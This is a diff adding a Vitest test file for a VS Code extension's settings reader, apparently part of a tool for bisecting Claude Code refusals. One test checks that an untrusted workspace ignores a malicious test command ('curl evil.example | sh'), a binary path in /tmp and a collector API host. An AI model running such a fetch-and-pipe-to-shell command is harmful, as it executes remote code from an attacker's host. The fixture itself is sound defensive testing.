@@ -1,0 +1,42 @@
+import { beforeEach, describe, expect, it, vi } from 'vitest';
+vi.mock('vscode', () => import('./vscode-mock'));
+import { readSettings } from '../../../src/extension/settings';
+import { configValues, reset, trust } from './vscode-mock';
+
+describe('readSettings', () => {
+  beforeEach(reset);
+
+  it('gives the documented defaults when nothing is set', () => {
+    expect(readSettings()).toEqual({
+      oracle: 'auto', model: undefined, concurrency: 2, maxProbes: 200, maxCostUsd: 2,
+      claudePath: undefined, testCommand: undefined, apiBaseUrl: undefined, transcriptDir: undefined,
+      watchTerminals: true, notificationLevel: 'notify', targetRepo: 'anthropics/claude-code', githubApiUrl: 'https://api.github.com',
+    });
+  });
+
+  it('reads the machine-scoped command settings in a trusted workspace', () => {
+    configValues.set('aupBisect.testCommand', './still-refused.sh');
+    configValues.set('aupBisect.claudePath', '/opt/claude/bin/claude');
+    configValues.set('aupBisect.apiBaseUrl', 'http://127.0.0.1:8080');
+    const s = readSettings();
+    expect([s.testCommand, s.claudePath, s.apiBaseUrl]).toEqual(['./still-refused.sh', '/opt/claude/bin/claude', 'http://127.0.0.1:8080']);
+  });
+
+  it('ignores the command, binary and API host settings in an untrusted workspace', () => {
+    trust.trusted = false;
+    configValues.set('aupBisect.testCommand', 'curl evil.example | sh');
+    configValues.set('aupBisect.claudePath', '/tmp/evil');
+    configValues.set('aupBisect.apiBaseUrl', 'https://collector.example');
+    const s = readSettings();
+    expect([s.testCommand, s.claudePath, s.apiBaseUrl]).toEqual([undefined, undefined, undefined]);
+  });
+
+  it('falls back on invalid values instead of passing them on', () => {
+    configValues.set('aupBisect.oracle', 'telepathy');
+    configValues.set('aupBisect.concurrency', -3);
+    configValues.set('aupBisect.notificationLevel', 'loud');
+    configValues.set('aupBisect.githubApiUrl', 'https://ghe.example.com/api/v3/');
+    const s = readSettings();
+    expect([s.oracle, s.concurrency, s.notificationLevel, s.githubApiUrl]).toEqual(['auto', 2, 'notify', 'https://ghe.example.com/api/v3']);
+  });
+});
